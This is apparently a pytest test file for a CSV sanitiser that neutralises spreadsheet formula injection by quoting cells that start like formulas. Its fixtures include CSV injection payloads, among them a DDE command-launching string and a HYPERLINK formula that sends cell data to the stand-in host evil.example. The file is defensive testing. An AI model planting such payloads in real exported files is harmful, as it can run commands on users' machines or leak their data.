"""CSV cells: text that a spreadsheet would run as a formula gets a leading quote; numbers and
ordinary text are written as they are."""

from __future__ import annotations

import csv
import decimal
import io

import pytest

from config.csv_cells import SafeWriter, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+A1",
        "-5",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTab",
        "\rReturn",
        "\nLine",
        ' =HYPERLINK("http://evil.example/?x="&A1,"ok")',
    ],
)
def test_text_starting_like_a_formula_is_prefixed_with_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", [0, 7, -5, -2.5, decimal.Decimal("-1.50"), True])
def test_numbers_the_code_writes_stay_numbers(number):
    assert safe_cell(number) is number


@pytest.mark.parametrize("text", ["Fab 8", "E-1001", "2026-11-02", "a=b", "TSMC @ Hsinchu", ""])
def test_ordinary_text_is_untouched(text):
    assert safe_cell(text) == text


def test_none_is_an_empty_cell_and_other_values_are_their_text():
    assert safe_cell(None) == ""
    assert safe_cell(["-x"]) == "['-x']"


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = SafeWriter(out, lineterminator="\n")
    writer.writerow(["name", "score"])
    writer.writerows([["=cmd()", -3], ["Fab 8", 4]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "score"],
        ["'=cmd()", "-3"],
        ["Fab 8", "4"],
    ]
